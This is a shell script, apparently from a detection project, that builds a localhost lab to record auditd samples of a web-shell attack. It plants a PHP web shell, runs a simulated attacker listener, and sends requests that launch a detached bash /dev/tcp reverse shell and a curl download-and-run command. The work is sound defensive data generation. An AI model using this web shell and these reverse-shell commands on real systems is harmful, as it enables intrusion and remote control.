#!/bin/sh
# SPDX-License-Identifier: ISC
# Capture samples/detached-revshell: processes that outlive their
# request, launched through a GET web shell: a reverse shell detached
# with "( setsid ... & )" into which commands are typed after the
# request ended, and a "nohup ... &" download-and-run, with a real
# auditd on this machine recording execs and connections.
#
#   sh tools/capture/detached-revshell.sh [OUTDIR]   (as root; default samples/detached-revshell)
#
# What it sets up, under a temporary directory and torn down after:
# - auditd with its own configuration: ENRICHED format, node=web10,
#   execve/execveat rules for both arches and connect, bind and listen;
# - php-fpm 8.2 (four children, no pool log) and nginx on 127.0.0.1:8101
#   in the -04:00 zone, combined format, serving /srv/www/docs with
#   assets/js/x.php: <?php system($_GET['c']);
# - a listener as root on 127.0.0.1:4445 standing for the attacker: it
#   takes the reverse shell's connection and types commands into it,
#   one every second, long after the request that launched it ended;
# - ordinary clients 127.0.0.10 to 127.0.0.15 browsing meanwhile.
# truth.tsv: the requests that ran a command (time curl started,
# client, method, path, the exact command); typed.tsv: the time each
# command was typed into the reverse shell, and the command.
#
# Needs: auditd, nginx, php8.2-fpm, curl, python3.  Removes only the
# audit rules it added; refuses to run when auditd is already running.
set -eu

OUT=$(realpath -m "${1:-$(dirname "$0")/../../samples/detached-revshell}")
NODE=web10
FORMAT=ENRICHED
WEB=/srv/www/docs
PORT=8101
BASE="http://127.0.0.1:$PORT"
SHELL_PATH=/assets/js/x.php
. "$(dirname "$0")/lib.sh"
RULES="$RULES
-a always,exit -F arch=b64 -S connect,bind,listen -k shelltrail_net"

cap_start
mkdir -p "$WEB/assets/js"

# --- the web application -------------------------------------------------
cat > "$WEB/index.php" <<'PHP'
<?php echo "<h1>Docs</h1>\n";
PHP
cat > "$WEB/page.php" <<'PHP'
<?php echo "page " . (int)($_GET['n'] ?? 1) . "\n";
PHP
cat > "$WEB$SHELL_PATH" <<'PHP'
<?php system($_GET['c']);
PHP
printf 'id > /dev/null; uname -n > /dev/null\n' > "$WEB/payload.txt"
chown -R www-data:www-data "$WEB"

# --- php-fpm and nginx -----------------------------------------------------
cap_fpm 4 America/Halifax
cap_nginx_php America/Halifax

# --- the attacker's listener -------------------------------------------------
# Bounded: 30 s to be reached, 2 s for each answer.
cat > "$T/listener.py" <<'PY'
import socket, sys, time
typed = open(sys.argv[1], "a")
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 4445))
s.listen(1)
s.settimeout(30)
c, _ = s.accept()
c.settimeout(2)
time.sleep(2)
for cmd in ("id", "uname -a", "cat /etc/hostname", "ls -la /srv/www", "exit"):
    typed.write("%.9f\t%s\n" % (time.time(), cmd))
    typed.flush()
    c.sendall(cmd.encode() + b"\n")
    time.sleep(1)
    try:
        c.recv(65536)
    except OSError:
        pass
c.close()
PY
python3 "$T/listener.py" "$T/typed.tsv" &
echo $! > "$T/listener.pid"
cap_server listener

# --- traffic ----------------------------------------------------------------
get() {		# COMMAND
	truth 127.0.0.66 GET "$SHELL_PATH" "$1"
	curl -s -o /dev/null --interface 127.0.0.66 -A "Mozilla/5.0 (X11; Linux x86_64)" \
	    -G --data-urlencode "c=$1" "$BASE$SHELL_PATH" || true
	sleep 1
}
cap_traffic 120 10 15 "$BASE/" "$BASE/page.php?n=2" "$BASE/page.php?n=7"
sleep 2
get "id"
get "(setsid bash -c 'bash -i >& /dev/tcp/127.0.0.1/4445 0>&1' > /dev/null 2>&1 &)"
sleep 8
get "nohup sh -c 'curl -s -o /tmp/.st_x.sh $BASE/payload.txt; sh /tmp/.st_x.sh; rm -f /tmp/.st_x.sh' > /dev/null 2>&1 &"
sleep 2
get "whoami"
wait "$(cat "$T/listener.pid")" 2>/dev/null || true

# --- collect ----------------------------------------------------------------
cap_collect
cp "$T/typed.tsv" "$OUT/typed.tsv"
cap_collect_nginx_php
cap_done
